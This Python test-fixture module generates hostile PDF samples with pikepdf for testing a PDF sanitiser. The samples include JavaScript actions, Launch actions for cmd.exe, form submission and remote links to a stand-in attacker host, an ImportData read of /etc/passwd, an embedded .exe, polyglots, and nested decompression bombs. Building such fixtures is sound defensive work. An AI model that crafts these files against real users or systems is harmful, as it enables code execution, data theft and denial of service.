"""Hostile PDFs, made in code: what each tries, and what must become of it.

``FILES`` names each with its bytes; ``REFUSED`` are those that no page can be made of.
"""

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

AS_IT_IS: dict[str, Any] = {
    "compress_streams": False,
    "stream_decode_level": pikepdf.StreamDecodeLevel.none,
}
SCRIPT = "app.alert('x')"
OUTSIDE = "http://attacker.invalid/x"


def saved(pdf: Pdf, **how: Any) -> bytes:
    buffer = BytesIO()
    pdf.save(buffer, **how)
    return buffer.getvalue()


def one_page(change: Callable[[Pdf, Any], None], **how: Any) -> bytes:
    """A PDF of one page that draws a line, changed by ``change(pdf, page)``."""
    with Pdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(595, 842)).obj
        page.Contents = pdf.make_stream(b"0 0 m 100 100 l S")
        change(pdf, page)
        return saved(pdf, **how)


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name("/" + kind), **more)


def script() -> Dictionary:
    return action("JavaScript", JS=String(SCRIPT))


def catalogue(**entries: Any) -> bytes:
    return one_page(lambda pdf, _page: pdf.Root.update({f"/{k}": v for k, v in entries.items()}))


def on_page(**entries: Any) -> bytes:
    return one_page(lambda _pdf, page: page.update({f"/{k}": v for k, v in entries.items()}))


def annotation(**entries: Any) -> bytes:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), **entries)
    return on_page(Annots=Array([note]))


def with_attachment() -> bytes:
    def attach(pdf: Pdf, _page: Any) -> None:
        pdf.attachments["x.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-attached")

    return one_page(attach)


def with_xfa() -> bytes:
    def form(pdf: Pdf, _page: Any) -> None:
        xfa = pdf.make_stream(b"<xdp><script>xfa.host.messageBox('x')</script></xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)

    return one_page(form)


def with_field() -> bytes:
    def form(pdf: Pdf, page: Any) -> None:
        field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))
        field.update({"/Type": Name.Annot, "/Subtype": Name.Widget, "/Rect": Array([0, 0, 9, 9])})
        made = pdf.make_indirect(field)
        page.Annots = Array([made])
        pdf.Root.AcroForm = Dictionary(Fields=Array([made]))

    return one_page(form)


def with_metadata() -> bytes:
    def tell(pdf: Pdf, page: Any) -> None:
        pdf.docinfo["/Author"] = "ZXAUTHOR"
        page.Metadata = pdf.make_stream(b"<x>ZXAUTHOR</x>")
        page.PieceInfo = Dictionary(ZX=Dictionary(Private=String("ZXAUTHOR")))

    return one_page(tell)


def with_hidden_action() -> bytes:
    """An action stowed away where only resources belong."""
    return one_page(
        lambda _pdf, page: page.update(
            {"/Resources": Dictionary(Properties=Dictionary(A=script()), ZX=Dictionary(B=script()))}
        )
    )


def with_reference_object() -> bytes:
    def refer(pdf: Pdf, page: Any) -> None:
        form = pdf.make_stream(b"")
        form.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])})
        form.Ref = Dictionary(F=String(OUTSIDE), Page=0)
        page.Resources = Dictionary(XObject=Dictionary(X=form))

    return one_page(refer)


def with_outer_stream() -> bytes:
    def refer(pdf: Pdf, page: Any) -> None:
        page.Contents = pdf.make_stream(b"", F=Dictionary(FS=Name.URL, F=String(OUTSIDE)))

    return one_page(refer)


def earlier_revision() -> bytes:
    """A page replaced by an incremental update; the former one is still in the file."""
    first = one_page(lambda _pdf, page: page.update({"/ZX": String("ZXFORMER")}))
    with Pdf.open(BytesIO(first)) as pdf:
        del pdf.pages[0].obj["/ZX"]
        return first + b"\n" + saved(pdf)


def many_pages() -> bytes:
    with Pdf.new() as pdf:
        page = pdf.add_blank_page().obj
        pdf.Root.Pages.Kids = Array([page] * 20_000)
        pdf.Root.Pages.Count = 20_000
        return saved(pdf)


def circular_tree() -> bytes:
    return raw_tree(b"[3 0 R 2 0 R]")


def raw_tree(kids: bytes, count: bytes = b"2", page: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids"
        + kids
        + b"/Count "
        + count
        + b">>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]"
        + page
        + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def bomb(times: int = 1, size: int = 80 * 1024 * 1024) -> bytes:
    packer = zlib.compressobj(9)
    step = b" " * (1024 * 1024)
    packed = b"".join(packer.compress(step) for _ in range(size // len(step))) + packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)

    def load(pdf: Pdf, page: Any) -> None:
        stream = pdf.make_stream(packed)
        stream.Filter = Array([Name.FlateDecode] * times)
        page.Contents = stream

    return one_page(
        load, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
    )


def huge_picture() -> bytes:
    def load(pdf: Pdf, page: Any) -> None:
        picture = pdf.make_stream(zlib.compress(b"\0" * 1000))
        picture.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/BitsPerComponent": 8})
        picture.update({"/Width": 100_000, "/Height": 100_000, "/ColorSpace": Name.DeviceRGB})
        picture.Filter = Name.FlateDecode
        page.Resources = Dictionary(XObject=Dictionary(I=picture))

    return one_page(
        load, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
    )


def locked(user: str) -> bytes:
    how = pikepdf.Encryption(owner="owner", user=user)
    return one_page(lambda _pdf, _page: None, encryption=how)


def harmless() -> bytes:
    return one_page(lambda _pdf, _page: None)


FILES: dict[str, Callable[[], bytes]] = {
    "script at opening": lambda: catalogue(OpenAction=script()),
    "script in the name tree": lambda: catalogue(
        Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
    ),
    "script at closing": lambda: catalogue(AA=Dictionary(WC=script())),
    "script of a page": lambda: on_page(AA=Dictionary(O=script())),
    "script of a field": with_field,
    "launch of a program": lambda: annotation(A=action("Launch", F=String("cmd.exe"))),
    "launch at opening": lambda: catalogue(OpenAction=action("Launch", F=String("cmd.exe"))),
    "link outside": lambda: annotation(A=action("URI", URI=String(OUTSIDE))),
    "form sent outside": lambda: annotation(A=action("SubmitForm", F=String(OUTSIDE))),
    "data taken from a file": lambda: annotation(A=action("ImportData", F=String("/etc/passwd"))),
    "page of another file": lambda: annotation(A=action("GoToR", F=String(OUTSIDE), D=0)),
    "rich media": lambda: annotation(RichMediaContent=Dictionary(ZX=String("ZXMEDIA"))),
    "sound": lambda: annotation(A=action("Sound")),
    "embedded file": with_attachment,
    "associated file": lambda: on_page(AF=Array([Dictionary(F=String(OUTSIDE))])),
    "dynamic form": with_xfa,
    "metadata": with_metadata,
    "action among resources": with_hidden_action,
    "page taken from elsewhere": with_reference_object,
    "stream kept elsewhere": with_outer_stream,
    "earlier revision": earlier_revision,
    "polyglot with a web page": lambda: b"<html><script>alert(1)</script>\n" + harmless(),
    "polyglot with an archive": lambda: harmless() + b"PK\x03\x04ZXARCHIVE",
    "owner's password only": lambda: locked(""),
    "broken cross-reference": lambda: harmless().replace(b"startxref", b"startxxxx"),
    "password": lambda: locked("secret"),
    "twenty thousand pages": many_pages,
    "page count of a lie": lambda: raw_tree(b"[3 0 R]", b"999999999"),
    "circle of pages": lambda: raw_tree(b"[2 0 R]"),
    "circle beside a page": circular_tree,
    "no page": lambda: saved(Pdf.new()),
    "bomb": bomb,
    "bomb in a bomb": lambda: bomb(2),
    "three filters": lambda: bomb(3, 1024 * 1024),
    "picture of a square kilometre": huge_picture,
    "no PDF at all": lambda: b"%PDF-1.7\n" + b"\0" * 5000,
    "cut short": lambda: harmless()[:60],
    "web page named as PDF": lambda: b"<!doctype html><p>x</p>",
    "empty file": lambda: b"",
}
REFUSED = frozenset(list(FILES)[list(FILES).index("password") :])
